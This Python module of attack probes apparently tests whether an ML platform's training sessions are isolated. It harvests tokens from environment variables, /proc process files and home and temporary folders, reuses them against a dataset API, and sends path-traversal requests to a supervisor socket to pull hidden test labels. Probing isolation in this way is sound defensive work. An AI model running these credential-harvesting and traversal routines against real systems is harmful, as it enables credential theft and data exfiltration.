"""Attack families: the owner's token and any credential (1), the network (1), the hidden
labels and the platform's files (2). See probes.py for the markers they print."""

import io
import json
import os
import socket
import stat
import tarfile
import time

from probes import (
    DATA, FOUND_TOKENS, SCOPED, SIZES, SPOOL, WHERE, T, blocked, lines, look_at_file, note, ok, other_roots, pids, read,
    recognise, say, sha,
)


# -- 1. credentials and the network ------------------------------------------------------------
def family_token() -> None:
    token = os.environ.get("NSML_TOKEN")
    if token:
        ok("NSML_TOKEN is set in the environment", "NSML_TOKEN", token.encode())
    else:
        blocked("NSML_TOKEN in the environment", "not set")
    note("environment keys", " ".join(sorted(os.environ)))
    for key, value in os.environ.items():
        recognise(value.encode(), f"environment {key}")
    before = set(FOUND_TOKENS)
    # The spool: everything the supervisor and the session share.
    read_files = 0
    for folder, _dirs, files in os.walk(SPOOL):
        for name in files:
            read_files += look_at_file(os.path.join(folder, name), f"spool {name}")
    note("spool files read", read_files)
    # Every process we can see: environment and command line.
    seen = 0
    for pid in pids():
        for part in ("environ", "cmdline"):
            try:
                recognise(read(f"/proc/{pid}/{part}"), f"/proc/{pid}/{part}")
                seen += 1
            except OSError:
                pass
    note("process files read", seen)
    # Files an attacker would look in first: the NSML home, home folders, temporary folders.
    home = T.get("home", "")
    for path in (f"{home}/token", f"{home}/server.json", f"{home}/nsml.db",
                 os.path.join(os.path.dirname(os.path.dirname(home)) if home else "", ".nsml", "token"),
                 os.path.expanduser("~/.nsml/token")):
        if look_at_file(path):
            ok("read a platform file", path)
    for pattern_root in (f"{home}/runs", "/tmp", "/var/tmp", "/dev/shm", "/run", os.path.dirname(home) if home else "/",
                         os.path.expanduser("~"), "/app", "/etc"):
        _scan_tree(pattern_root, budget=2.0)
    if not [t for t in FOUND_TOKENS if t not in before and (SCOPED.fullmatch(t) or sha(t) == T.get("token_sha"))]:
        blocked("a token in the spool, /proc or readable files", "none found")
    use_credentials()
    say("DONE token")


def _scan_tree(root: str, budget: float) -> None:
    deadline = time.monotonic() + budget
    for folder, dirs, files in os.walk(root):
        for name in files:
            if time.monotonic() > deadline:
                return
            path = os.path.join(folder, name)
            try:
                if os.path.islink(path) or os.path.getsize(path) > 256 << 10:
                    continue
            except OSError:
                continue
            look_at_file(path)


def endpoints() -> list[tuple[str, int, str]]:
    ports = [(T["server_port"], "the NSML server"), (T["listener_port"], "a loopback service")]
    if T.get("wildcard_port"):
        ports.append((T["wildcard_port"], "a service on all the host's addresses"))
    ports += [(port, what) for port, what in T.get("extra_ports", [])]  # e.g. a Ray node's GCS, raylet, dashboard
    return [(host, port, what) for host in T["hosts"] for port, what in ports]


def family_network() -> None:
    reached = []
    for host, port, what in endpoints():
        try:
            conn = socket.create_connection((host, port), timeout=3)
        except OSError as exc:
            blocked(f"connect to {what} at {host}:{port}", exc)
            continue
        with conn:
            try:
                conn.sendall(b"GET /api/health HTTP/1.0\r\nHost: x\r\n\r\n" if port == T["server_port"] else b"session was here\n")
                answer = conn.recv(200)
            except OSError as exc:
                answer = repr(exc).encode()
        reached.append((host, port))
        ok(f"connected to {what} at {host}:{port}", answer[:120].decode("utf-8", "replace"))
    # Abstract Unix sockets belong to a network namespace: the host's would be the platform's.
    try:
        names = [ln.split()[-1] for ln in read("/proc/net/unix").decode().splitlines()[1:] if ln.split()[-1].startswith("@")]
    except (OSError, IndexError):
        names = []
    for name in sorted(set(names))[:50]:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            try:
                s.connect("\0" + name[1:])
                note("connected to an abstract socket", name)
            except OSError:
                pass
    note("routes", " | ".join(lines("/proc/net/route")[1:]) or "none")
    note("network interfaces", [n for _i, n in socket.if_nameindex()])
    say("DONE network")


def use_credentials() -> None:
    """Whatever was found (and nothing at all): ask the API for the hidden labels."""
    tokens = sorted(FOUND_TOKENS, key=lambda t: not (SCOPED.fullmatch(t) or sha(t) == T.get("token_sha")))[:25]
    targets = [(h, p) for h, p, _w in endpoints() if p == T["server_port"]]
    reachable = []
    for host, port in targets:
        try:
            socket.create_connection((host, port), timeout=3).close()
            reachable.append((host, port))
        except OSError:
            pass
    if not reachable:
        blocked("the API with a found credential", "the server cannot be reached from here")
    for host, port in reachable[:1]:
        for token in [None, *tokens]:
            _ask_archive(host, port, token)
    # The supervisor's socket (and any other socket in the spool): the only way to the platform.
    for folder, _dirs, files in os.walk(SPOOL):
        for name in files:
            path = os.path.join(folder, name)
            try:
                if not stat.S_ISSOCK(os.lstat(path).st_mode):
                    continue
            except OSError:
                continue
            for request in _gateway_requests():
                answer = _unix_ask(path, json.dumps(request).encode() + b"\n")
                recognise(answer, f"answer of {name}")
                _find_label_in_tar(answer, f"answer of {name}")
                _look_at_load(answer, request)
            note("asked the socket", name)


def _gateway_requests() -> list:
    """What the supervisor's socket is asked: its one operation (load a checkpoint, fetched with
    the supervisor's credentials) turned to other URLs: dot segments that a URL library
    normalises away (…/sessions/../datasets/NAME/checkpoints/../archive is the dataset's
    archive, hidden labels included), and requests it has no operation for. (Another of the
    owner's sessions' checkpoints it may load: that is what the operation is for.)"""
    name = T["dataset"]
    out = [{"op": "load", "session": f"../datasets/{name}", "checkpoint": ".."},
           {"op": "load", "session": f"./../datasets/{name}", "checkpoint": "../."},
           {"op": "load", "session": "../../api/datasets", "checkpoint": ".."},
           {"op": "load", "session": f"../datasets/{name}/test", "checkpoint": "test_label"},
           {"op": "fetch", "url": f"/api/datasets/{name}/archive"},
           {"op": "dataset", "name": name, "split": "test"}]
    return out


def _look_at_load(answer: bytes, request: dict) -> None:
    try:
        reply = json.loads(answer)
    except ValueError:
        return
    if not isinstance(reply, dict) or not isinstance(reply.get("dir"), str):
        blocked(f"the supervisor's load of {request}", str(reply)[:200] if reply else "no answer")
        return
    folder = os.path.join(SPOOL, reply["dir"])
    names = []
    for sub, _dirs, files in os.walk(folder):
        for file in files:
            names.append(os.path.relpath(os.path.join(sub, file), folder))
            look_at_file(os.path.join(sub, file), f"the supervisor's load of {request}")
    if any(n.startswith("test/") or n.startswith("train/") for n in names):
        ok("fetched the dataset through the supervisor", f"{request}: {names[:10]}")
    else:
        note(f"the supervisor's load of {request}", names[:10])


def _ask_archive(host: str, port: int, token: bytes | None) -> None:
    import http.client

    try:
        conn = http.client.HTTPConnection(host, port, timeout=10)
        headers = {"Authorization": f"Bearer {token.decode()}"} if token else {}
        conn.request("GET", f"/api/datasets/{T['dataset']}/archive", headers=headers)
        resp = conn.getresponse()
        body = resp.read(64 << 20)
    except OSError as exc:
        blocked("GET the dataset archive", exc)
        return
    who = "without a token" if token is None else f"with a token found in {FOUND_TOKENS.get(token)}"
    if resp.status == 200:
        if not _find_label_in_tar(body, f"the API archive {who}"):
            ok(f"an API call {who}", f"GET /api/datasets/{T['dataset']}/archive answered 200")
    else:
        blocked(f"the API archive {who}", resp.status)


def _find_label_in_tar(body: bytes, where: str) -> bool:
    try:
        with tarfile.open(fileobj=io.BytesIO(body)) as tar:
            for member in tar.getmembers():
                if member.name.endswith("test_label"):
                    ok("got the hidden labels", where, tar.extractfile(member).read())
                    return True
    except (tarfile.TarError, OSError, EOFError):
        pass
    return False


def _unix_ask(path: str, request: bytes) -> bytes:
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(3)
            s.connect(path)
            s.sendall(request)
            out = b""
            while len(out) < 4 << 20:
                chunk = s.recv(65536)
                if not chunk:
                    break
                out += chunk
            return out
    except OSError:
        return b""


# -- 2. the hidden labels ---------------------------------------------------------------------
def family_labels() -> None:
    if DATA:
        test = os.path.join(DATA, "test")
        if os.path.exists(os.path.join(test, "test_label")):
            look_at_file(os.path.join(test, "test_label"))
            ok(f"{WHERE} sees test/test_label", os.path.join(test, "test_label"))
        elif WHERE in ("train", "infer") and os.path.exists(test):
            ok(f"{WHERE} sees test/", str(os.listdir(test)))
        else:
            blocked("test_label in the dataset view", sorted(os.listdir(DATA)))
        for folder, _dirs, files in os.walk(DATA):
            for name in files:
                look_at_file(os.path.join(folder, name))
    home = T["home"]
    places = [f"{home}/blobs", f"{home}/nsml.db", f"{home}/token", f"{home}/views", f"{home}/runs"]
    server = T.get("server_pid")
    if server:
        places += [f"/proc/{server}/root{home}/blobs", f"/proc/{server}/root{home}/token", f"/proc/{server}/cwd"]
    for pid in other_roots():
        places.append(f"/proc/{pid}/root{home}/blobs")
    # The mount table names where the dataset view and the working folder come from: the home.
    for line in lines("/proc/self/mountinfo"):
        fields = line.split()
        root = fields[3] if len(fields) > 4 else ""
        parts = root.split("/")
        for i in range(2, len(parts)):
            places.append("/".join(parts[:i]) + "/blobs")
    note("mount roots", sorted({ln.split()[3] for ln in lines("/proc/self/mountinfo") if len(ln.split()) > 4})[:20])
    deadline = time.monotonic() + 20
    for path in dict.fromkeys(places):
        if time.monotonic() > deadline:
            note("labels: out of time", path)
            break
        if os.path.isdir(path):
            try:
                listing = os.listdir(path)
            except OSError as exc:
                blocked(f"list {path}", exc)
                continue
            if listing:
                ok("listed a platform folder", f"{path}: {len(listing)} entries")
            _walk_for(path, budget=4.0)
        elif os.path.isfile(path):
            if look_at_file(path):
                ok("read a platform file", path, read(path, 4096))
        else:
            blocked(f"reach {path}", "absent")
    for path in (T.get("label_blob"), T.get("private_path"), T.get("victim_workdir") and T["victim_workdir"] + "/private.txt"):
        if path:
            if not look_at_file(path):
                blocked(f"read {path} by its path", "cannot open")
    # Guessing: every file on every path we can see whose size is a secret's.
    _walk_for("/", budget=8.0)
    say("DONE labels")


def _walk_for(root: str, budget: float) -> None:
    deadline = time.monotonic() + budget
    for folder, dirs, files in os.walk(root):
        if folder == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            if time.monotonic() > deadline:
                note("walk ended by its time budget", root)
                return
            path = os.path.join(folder, name)
            try:
                if os.path.getsize(path) in SIZES and not os.path.islink(path):
                    look_at_file(path)
            except OSError:
                pass
